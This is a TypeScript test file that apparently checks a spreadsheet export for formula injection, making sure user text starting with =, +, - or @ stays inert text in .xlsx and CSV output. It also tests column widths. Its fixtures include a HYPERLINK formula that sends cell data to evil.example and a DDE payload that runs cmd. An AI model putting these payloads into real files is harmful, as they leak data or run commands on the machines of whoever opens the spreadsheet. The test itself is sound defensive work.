/**
 * Exported spreadsheets never carry a live formula: a user's text that begins with =, +, - or @ is written so that
 * no spreadsheet runs it — in the .xlsx and after LibreOffice re-saves it as CSV (issue 8).
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildEnterprise, type TestApp, testApp } from '../testing/harness.js';
import { convertWithSoffice, sofficePath } from './soffice.js';
import { buildWorkbook } from './xlsx.js';

const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
const ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0";

describe('formula injection in exports', () => {
  let t: TestApp;
  let file: Buffer;
  beforeAll(async () => {
    t = await testApp();
    const inspector = await t.as('inspector.370303');
    const created = await inspector.post(
      '/api/enterprises',
      buildEnterprise({ name: NAME, address: ADDRESS, principalPhone: '+86 533 3100000' }),
    );
    expect(created.status).toBe(201);
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/enterprises/export?q=${encodeURIComponent('HYPERLINK')}`,
      headers: { cookie: inspector.cookie },
    });
    expect(res.statusCode).toBe(200);
    file = res.rawPayload;
  });
  afterAll(() => t.close());

  it('writes the text with a leading apostrophe, as a string cell, never as a formula', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => cells.push(c)));
    const texts = cells.map((c) => c.value);
    expect(texts).toContain(`'${NAME}`);
    expect(texts).toContain(`'${ADDRESS}`);
    expect(texts).toContain("'+86 533 3100000");
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    expect(texts.some((v) => typeof v === 'string' && /^[=+@]/.test(v))).toBe(false);
  });

  it.skipIf(!sofficePath())(
    'stays text after LibreOffice converts the file to CSV',
    async () => {
      const csv = (await convertWithSoffice(file, 'xlsx', 'csv:Text - txt - csv (StarCalc):44,34,76')).toString('utf8');
      const fields = csv.split(/\r?\n/).flatMap((line) => line.split(','));
      expect(csv).toContain("'=HYPERLINK");
      expect(fields.some((f) => /^"?[=+@]/.test(f))).toBe(false);
    },
    120_000,
  );
});

describe('column widths', () => {
  it('fit the widest value as shown, the bold 合计 row included (no "###")', async () => {
    const file = await buildWorkbook([
      {
        name: '报表',
        title: '生产安全事故统计表',
        columns: [
          { key: 'label', header: '地区', width: 10 },
          { key: 'n', header: '起数', format: 'integer' },
          { key: 'loss', header: '直接经济损失', format: 'decimal1' },
        ],
        rows: [{ label: '张店区', n: 3, loss: 12.5 }],
        totals: { label: '合计', n: 1_234_567, loss: 1_885_123.4 },
      },
    ]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const ws = wb.worksheets[0] as ExcelJS.Worksheet;
    // "1,234,567" and "1,885,123.4" (+1 for bold, +2 padding); the label column keeps its wider spec width.
    expect(ws.getColumn(2).width).toBeGreaterThanOrEqual('1,234,567'.length + 3);
    expect(ws.getColumn(3).width).toBeGreaterThanOrEqual('1,885,123.4'.length + 3);
    expect(ws.getColumn(1).width).toBe(10);
  });

  it('writes a width for every column, 9 characters included (exceljs would drop it and leave Excel its 8.43)', async () => {
    const file = await buildWorkbook([
      {
        name: '报表',
        title: '生产安全事故统计表',
        columns: [
          { key: 'label', header: '地区' },
          { key: 'a', header: '本期', width: 9 },
          { key: 'b', header: '增减', width: 9 },
        ],
        rows: [{ label: '张店区', a: 3, b: -1 }],
      },
    ]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file as unknown as ArrayBuffer);
    const ws = wb.worksheets[0] as ExcelJS.Worksheet;
    expect(ws.getColumn(1).width).toBe(8);
    for (const col of [2, 3]) expect(ws.getColumn(col).width, `column ${col}`).toBeGreaterThanOrEqual(9);
  });
});
